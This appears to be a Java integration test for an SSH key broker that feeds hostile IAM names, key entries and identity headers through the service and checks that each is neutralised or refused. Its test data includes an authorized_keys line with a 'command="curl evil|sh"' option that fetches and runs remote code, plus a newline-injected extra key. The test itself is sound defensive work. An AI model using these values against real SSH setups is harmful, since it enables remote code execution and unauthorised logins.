package io.keyfleet.reliability;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.keyfleet.api.IdentityFilter;
import io.keyfleet.directory.Directory;
import io.keyfleet.testing.IamEmulator;
import io.keyfleet.testing.IamEmulatorResource;
import io.keyfleet.testing.InjectIamEmulator;
import io.keyfleet.testing.TestKeys;
import io.keyfleet.testing.TestSigner;
import io.keyfleet.testing.TestSigner.Headers;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.QuarkusTestProfile;
import io.quarkus.test.junit.TestProfile;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Input built to hurt, through the whole broker: IAM names made to collide, to reach system
 * accounts or to overflow; key material with options, line breaks and huge sizes; identity headers
 * of hostile size and encoding. Each is refused or neutralised, and nothing else changes.
 */
@QuarkusTest
@TestProfile(HostileInputTest.Policy.class)
@WithTestResource(IamEmulatorResource.class)
class HostileInputTest {

    static final String INSTANCE = "i-0f0f0f0f0f0f0f0f0";

    public static class Policy implements QuarkusTestProfile {
        @Override
        public Map<String, String> getConfigOverrides() {
            return Map.of("keyfleet.policies.all.accounts", TestSigner.ACCOUNT, "keyfleet.policies.all.groups", "everyone",
                    "keyfleet.policies.all.sudo-groups", "admins");
        }
    }

    @InjectIamEmulator
    IamEmulator iam;

    @Inject
    Directory directory;

    @Test
    void hostileNamesAndKeysNeverReachAnInstanceAsSuch() {
        iam.reset();
        String good = TestKeys.ed25519("good");
        List<String> names = List.of("root", "ec2-user", "sshd", "systemd-network", "a+b", "a.plus.b", "x".repeat(64),
                "x".repeat(63) + "y", "1337", "-rf", "..", "_apt", "Admin@Example.com");
        for (String name : names) {
            iam.addUser(name);
            iam.addToGroup("everyone", name);
            iam.addKey(name, good);
        }
        iam.addToGroup("admins", "root");
        iam.addKey("a+b", "command=\"curl evil|sh\" " + good);
        iam.addKey("a+b", good + "\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMyYnanClCE5HstsbwIN6875tnGEMqZEj5cVIlig8aH7 injected");
        iam.addKey("a+b", "ssh-rsa " + "A".repeat(20_000));
        iam.addKey("a+b", TestKeys.rsa(1024, "weak"));
        assertTrue(directory.refresh());

        JsonPath roster = as(INSTANCE).get("/v1/roster").then().statusCode(200).extract().jsonPath();
        List<String> localNames = roster.getList("users.localName");
        assertEquals(names.size(), localNames.size(), "every user is served, under a safe name: " + localNames);
        for (String reserved : List.of("root", "ec2-user", "sshd", "systemd-network", "_apt")) {
            assertFalse(localNames.contains(reserved), reserved);
        }
        assertEquals(localNames.size(), localNames.stream().distinct().count(), "no two people share an account");
        assertTrue(localNames.stream().allMatch(n -> n.matches("[a-z][a-z0-9._-]{0,31}")), localNames.toString());
        assertTrue(localNames.contains("a.plus.b"));
        assertTrue(localNames.contains("admin.at.example.com"));

        List<List<String>> keys = roster.getList("users.keys");
        assertTrue(keys.stream().allMatch(k -> k.size() == 1), "only the one good key of each: " + keys);
        String rootLike = localNames.stream().filter(n -> n.startsWith("root-")).findFirst().orElseThrow();
        assertTrue(roster.getBoolean("users.find { it.localName == '" + rootLike + "' }.sudo"), "the IAM user 'root' is an ordinary user");
        String served = as(INSTANCE).get("/v1/users/a.plus.b/authorized-keys").then().statusCode(200).extract().asString();
        assertEquals(1, served.lines().count(), served);
    }

    @Test
    void hostileIdentityHeadersAreRefusedWithoutReachingAnythingElse() {
        Headers good = TestSigner.TRUSTED.headers(TestSigner.document(INSTANCE, "us-east-1"));
        String hugeDocument = Base64.getEncoder().encodeToString(("{\"a\":\"" + "x".repeat(4000) + "\"}").getBytes());
        for (String[] headers : new String[][] {
                {hugeDocument, good.signature(), "identity-oversized"},
                {good.document(), good.signature().repeat(5), "identity-oversized"},
                {"\u00e9\u00e9\u00e9", good.signature(), "identity-bad-encoding"},
                {good.document() + "%00", good.signature(), "identity-bad-encoding"},
                {Base64.getEncoder().encodeToString("[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[".getBytes()), good.signature(), "identity-bad-document"},
                {Base64.getEncoder().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1}), good.signature(), "identity-bad-document"},
                {good.document(), Base64.getEncoder().encodeToString(new byte[64]), "identity-bad-signature"}}) {
            given().header(IdentityFilter.DOCUMENT_HEADER, headers[0]).header(IdentityFilter.SIGNATURE_HEADER, headers[1])
                    .get("/v1/roster").then().statusCode(401).body("reason", org.hamcrest.Matchers.equalTo(headers[2]));
        }
        given().header(IdentityFilter.DOCUMENT_HEADER, "A".repeat(30_000)).get("/v1/roster").then()
                .statusCode(org.hamcrest.Matchers.either(org.hamcrest.Matchers.is(401)).or(org.hamcrest.Matchers.is(431)));
    }

    private static io.restassured.specification.RequestSpecification as(String instanceId) {
        Headers h = TestSigner.TRUSTED.headers(TestSigner.document(instanceId, "us-east-1"));
        return given().header(IdentityFilter.DOCUMENT_HEADER, h.document()).header(IdentityFilter.SIGNATURE_HEADER, h.signature());
    }
}
